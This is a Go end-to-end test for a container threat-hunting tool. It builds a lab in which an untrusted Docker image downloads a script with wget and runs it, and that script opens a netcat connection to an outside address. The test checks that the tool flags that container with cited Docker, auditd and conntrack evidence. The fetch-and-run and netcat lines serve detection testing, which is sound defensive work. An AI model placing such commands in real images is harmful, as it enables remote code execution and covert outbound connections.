//go:build e2e

package e2e

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

const (
	untrusted  = "198.51.100.30:5000/tools/helper:latest"
	trusted    = "198.51.100.40:5000/team/web:1"
	sitePolicy = `version: 1
learning: 7d
default_scope: lab
scopes:
  lab:
    registries: ["198.51.100.40:5000/*"]
    approved_destinations: ["198.51.100.40"]
`
)

// An image that nobody trusts is pulled, run, fetches a script, runs it and
// connects out, beside one that only serves pages; both by a real Docker
// Engine, recorded by real tools, while nothing else is told to the program.
func TestAMaliciousImageRecordedHere(t *testing.T) {
	l := newLab(t)
	l.serve("/x.sh", "#!/bin/sh\nnc -w 2 203.0.113.66 4444 </dev/null\nsleep 1\n")
	l.push(untrusted, "#!/bin/sh\nwget -q -O /tmp/x.sh http://198.51.100.10/x.sh\nchmod +x /tmp/x.sh\n/tmp/x.sh\nsleep 60\n")
	l.push(trusted, "#!/bin/sh\nexec httpd -f -p 80\n")
	l.record("run")
	l.docker("pull", "-q", trusted)
	good := l.docker("run", "-d", "--name", "web", trusted)
	time.Sleep(2 * time.Second)
	l.docker("pull", "-q", untrusted)
	bad := l.docker("run", "-d", "--name", "helper", untrusted)
	time.Sleep(6 * time.Second)
	l.keep("inspect.json", l.docker("inspect", "web", "helper"))
	l.keep("inspect-image.json", l.docker("image", "inspect", trusted, untrusted))
	l.docker("rm", "-f", "web", "helper")
	l.stop()

	policy := filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(policy, []byte(sitePolicy), 0o644); err != nil {
		t.Fatal(err)
	}
	stdout, stderr, status := run(t, nil, "hunt", "--host", "lab", "-o", "json", "--policy", policy, "--fail-on", "high", l.logs)
	t.Logf("the account:\n%s", stderr)
	if status != 3 {
		t.Errorf("exit status %d, want 3", status)
	}
	if strings.Contains(stderr, "unreadable") || strings.Contains(stderr, "not read") {
		t.Error("not everything was read")
	}
	fs := findings(t, stdout)
	if len(fs) != 1 {
		t.Fatalf("%d findings, want 1: %+v", len(fs), fs)
	}
	if c := fs[0].Unmapped.Entities[0].ContainerID; c != bad || c == good {
		t.Errorf("the finding is on container %s, want %s", c, bad)
	}
	for _, leg := range fs[0].Unmapped.Legs {
		if leg.State != "seen" {
			t.Errorf("leg %s is %s", leg.Leg, leg.State)
		}
	}
	checkCitations(t, fs[0])
	text, _, _ := run(t, nil, "hunt", "--host", "lab", "--policy", policy, l.logs)
	t.Logf("the finding:\n%s", text)
}

// checkCitations reads what each piece of evidence cites. A record is indented
// where it is one of an array (docker inspect).
func checkCitations(t *testing.T, f found) {
	t.Helper()
	var sources []string
	for _, e := range f.Evidences {
		data, err := os.ReadFile(e.Data.File)
		if err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(string(data), "\n")
		if first, _, _ := strings.Cut(e.Data.Record, "\n"); e.Data.Line < 1 || e.Data.Line > len(lines) || strings.TrimLeft(lines[e.Data.Line-1], " \t") != first {
			t.Errorf("%s:%d does not hold %q", e.Data.File, e.Data.Line, first)
		}
		sources = append(sources, e.Data.Source)
	}
	for _, s := range []string{"docker", "auditd", "conntrack"} {
		if !slices.Contains(sources, s) {
			t.Errorf("no evidence is from %s", s)
		}
	}
}
